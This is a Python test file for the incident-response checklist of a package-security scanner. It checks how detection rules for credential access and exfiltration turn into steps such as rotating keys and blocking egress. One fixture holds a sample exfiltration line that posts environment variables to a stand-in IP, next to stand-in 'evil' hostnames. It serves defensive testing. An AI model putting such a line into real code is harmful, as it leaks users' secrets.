"""The rotation checklist is a pure function of rule ids and network destinations."""

from __future__ import annotations

from pycustoms.incident.checklist import build_checklist, capabilities_of
from pycustoms.incident.query import destinations
from pycustoms.types import Finding, Severity


def _actions(rules: list[str], dests: list[str] | None = None) -> list[str]:
    return [item.action for item in build_checklist(rules, dests or [])]


def test_credential_files_call_for_rotating_keys() -> None:
    items = build_checklist(["code/credential-file-access"], [])
    assert len(items) == 1
    assert items[0].action.startswith("Rotate AWS keys")
    assert "~/.ssh" in items[0].action
    assert items[0].rules == ("code/credential-file-access",)


def test_environment_dump_calls_for_rotating_every_env_secret() -> None:
    actions = _actions(["code/environment-dump"])
    assert actions == ["Rotate CI tokens and every secret passed in environment variables"]


def test_endpoints_call_for_blocking_egress_once_each_sorted() -> None:
    actions = _actions(
        ["code/exfiltration"], ["evil.example.net", "10.1.2.3:8080", "evil.example.net"]
    )
    assert actions[0].startswith("Treat everything the process could read as disclosed")
    assert actions[1:] == [
        "Block egress to 10.1.2.3:8080 and search proxy/DNS logs for it",
        "Block egress to evil.example.net and search proxy/DNS logs for it",
    ]


def test_groups_keep_the_catalogue_order_and_do_not_repeat() -> None:
    rules = ["code/environment-dump", "code/credential-path", "code/credential-file-access"]
    items = build_checklist(rules, [])
    assert [i.rules for i in items] == [
        ("code/credential-file-access", "code/credential-path"),
        ("code/environment-dump",),
    ]


def test_blocked_without_reach_still_says_what_to_do() -> None:
    actions = _actions(["policy/manual-block"])
    assert actions == [
        "Remove the release from affected environments and reinstall from a clean lock"
    ]
    assert build_checklist([], []) == ()


def test_capabilities_come_from_the_rule_catalogue() -> None:
    assert "network" in capabilities_of(["code/exfiltration"])
    assert capabilities_of(["policy/manual-block"]) == ()


def test_destinations_are_read_from_network_evidence_only() -> None:
    found = [
        Finding("code/exfiltration", Severity.HIGH, "posts to https://collect.evil.example.net/x",
                snippet="requests.post('http://203.0.113.9:8000/u', data=env)"),
        Finding("code/exfiltration", Severity.HIGH, "talks to http://127.0.0.1:9/ and localhost"),
        Finding("metadata/summary", Severity.LOW, "homepage https://docs.example.org"),
    ]  # fmt: skip
    assert destinations(found) == ("203.0.113.9:8000", "collect.evil.example.net")
